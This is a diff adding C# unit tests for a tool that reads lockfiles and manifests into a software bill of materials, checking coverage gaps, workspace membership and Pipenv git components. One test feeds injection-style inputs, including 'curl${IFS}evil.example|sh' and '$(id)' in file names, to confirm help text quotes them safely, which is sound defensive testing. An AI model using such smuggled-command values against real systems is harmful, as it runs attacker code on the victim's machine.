@@ -93,6 +93,68 @@ public sealed class LockfileReaderTests
         Assert.Contains("\"aggregate\": \"incomplete\"", Encoding.UTF8.GetString(SbomCase.Write(inventory)), StringComparison.Ordinal);
     }
 
+    public static TheoryData<string, string, string, string> Above => new()
+    {
+        // one for a tool at the top, and a service that is no member
+        { "package-lock.json", """{"lockfileVersion":3,"packages":{"":{"devDependencies":{"husky":"9"}},"web":{},"node_modules/husky":{"version":"9.0.0"}}}""", "package.json", """{"dependencies":{"express":"4"}}""" },
+        { "pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters:\n  .: {}\n  web: {}\npackages: {}\n", "package.json", """{"dependencies":{"express":"4"}}""" },
+        { "yarn.lock", "__metadata:\n  version: 8\n\"web@workspace:web\":\n  version: 0.0.0\n  resolution: \"web@workspace:web\"\n", "package.json", """{"dependencies":{"express":"4"}}""" },
+        { "yarn.lock", "# yarn lockfile v1\n", "package.json", """{"dependencies":{"express":"4"}}""" },
+        { "Cargo.lock", "[[package]]\nname = \"web\"\nversion = \"0.1.0\"\n", "Cargo.toml", "[package]\nname = \"api\"\n[dependencies]\nserde = \"1\"\n" },
+        { "uv.lock", "version = 1\n[[package]]\nname = \"web\"\nversion = \"0\"\nsource = { editable = \"web\" }\n", "pyproject.toml", "[project]\ndependencies = [\"flask\"]\n" },
+        { "poetry.lock", "[[package]]\nname = \"web\"\nversion = \"0\"\n[package.source]\ntype = \"directory\"\nurl = \"web\"\n[metadata]\nlock-version = \"2.0\"\n", "pyproject.toml", "[project]\ndependencies = [\"flask\"]\n" },
+        { "requirements.txt", "flask==1.0\n", "pyproject.toml", "[project]\ndependencies = [\"flask\"]\n" },
+        { "Pipfile.lock", """{"_meta":{},"default":{}}""", "Pipfile", "[packages]\nflask = \"*\"\n" },
+        { "gradle.lockfile", "empty=\n", "build.gradle", "dependencies { implementation 'a:b:1' }" },
+        { "packages.lock.json", """{"version":1,"dependencies":{}}""", "api.csproj", "<Project><ItemGroup><PackageReference Include='A' /></ItemGroup></Project>" },
+        { "composer.lock", """{"packages":[],"packages-dev":[]}""", "composer.json", """{"require":{"a/b":"1"}}""" },
+        { "Gemfile.lock", "GEM\n  specs:\n", "Gemfile", "gem 'rails'\n" },
+    };
+
+    /// <summary>A list that is silently short is worse than none.</summary>
+    [Theory]
+    [MemberData(nameof(Above))]
+    public void LockfileAbove_ThatNamesNoMember_PinsNothing(string lockfile, string locked, string manifest, string asked)
+    {
+        (string, string)[] beside = lockfile == "yarn.lock" ? [("package.json", """{"workspaces":["web","packages/*"]}""")] : [];
+        Assert.Contains(SbomCase.Read([(lockfile, locked), ($"api/{manifest}", asked), .. beside]).Gaps, gap => gap.Path == $"api/{manifest}" && gap.Message.StartsWith("it asks for packages that no", StringComparison.Ordinal));
+        // as a member it is pinned there, and in its own folder always
+        if (locked.Contains("web", StringComparison.Ordinal))
+            Assert.DoesNotContain(SbomCase.Read([(lockfile, locked), ($"web/{manifest}", asked.Replace("api", "web", StringComparison.Ordinal)), .. beside]).Gaps, gap => gap.Path == $"web/{manifest}");
+        Assert.DoesNotContain(SbomCase.Read(($"api/{lockfile}", locked), ($"api/{manifest}", asked)).Gaps, gap => gap.Path == $"api/{manifest}");
+    }
+
+    [Theory]
+    [InlineData("""{"workspaces":["packages/*","!packages/left"]}""", "packages/api", true)]
+    [InlineData("""{"workspaces":{"packages":["./packages/*/"]}}""", "packages/api", true)]
+    [InlineData("""{"workspaces":["packages/*","!packages/left"]}""", "packages/left", false)]
+    [InlineData("""{"workspaces":["packages/*"]}""", "packages/api/deep", false)]
+    [InlineData("""{"workspaces":["packages/**"]}""", "packages/api/deep", true)]
+    [InlineData("""{"workspaces":7}""", "packages/api", false)]
+    [InlineData("""{}""", "packages/api", false)]
+    public void YarnClassic_NamesItsMembersInTheManifest(string root, string folder, bool isMember)
+    {
+        var gaps = SbomCase.Read(("yarn.lock", "# yarn lockfile v1\n"), ("package.json", root), ($"{folder}/package.json", """{"dependencies":{"express":"4"}}""")).Gaps;
+        Assert.Equal(isMember ? [] : [$"{folder}/package.json"], gaps.Select(gap => gap.Path));
+    }
+
+    /// <summary>How Pipenv recommends to take a repository: other people's code by its commit.</summary>
+    [Fact]
+    public void Pipenv_RepositoryInPlace_IsAComponent()
+    {
+        var inventory = SbomCase.Read(("Pipfile.lock", """{"_meta":{},"default":{"requests":{"editable":true,"git":"https://github.com/psf/requests.git","ref":"0123456789abcdef0123456789abcdef01234567"},"own":{"editable":true,"path":"."}}}"""));
+        Assert.Equal("pkg:pypi/requests?vcs_url=git%2Bhttps:%2F%2Fgithub.com%2Fpsf%2Frequests.git%400123456789abcdef0123456789abcdef01234567", Assert.Single(inventory.Components).Reference);
+        Assert.Empty(inventory.Gaps);
+    }
+
+    /// <summary>A line is pasted by somebody else than who wrote the file.</summary>
+    [Theory]
+    [InlineData("requirements.txt", "-r x;curl${IFS}evil.example|sh\n", "cp 'x;curl${IFS}evil.example|sh' requirements-more.txt")]
+    [InlineData("requirements.txt", "-r -t.txt\n", "cp ./-t.txt requirements-more.txt")]
+    [InlineData("$(id)/requirements.txt", "loose>=1\n", "pip-compile --generate-hashes --output-file '$(id)/requirements.txt' '$(id)/requirements.in'")]
+    [InlineData("-x/requirements.txt", "-r more.in\n", "cp ./-x/more.in ./-x/requirements-more.txt")]
+    public void Help_QuotesWhatAFileSays(string path, string text, string help) => Assert.Equal(help, Assert.Single(SbomCase.Read((path, text)).Gaps).Help);
+
     public static TheoryData<string> Lockfiles => ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "packages.lock.json", "poetry.lock", "uv.lock", "Pipfile.lock", "go.mod", "Cargo.lock", "gradle.lockfile", "Gemfile.lock", "composer.lock"];
 
     [Theory]
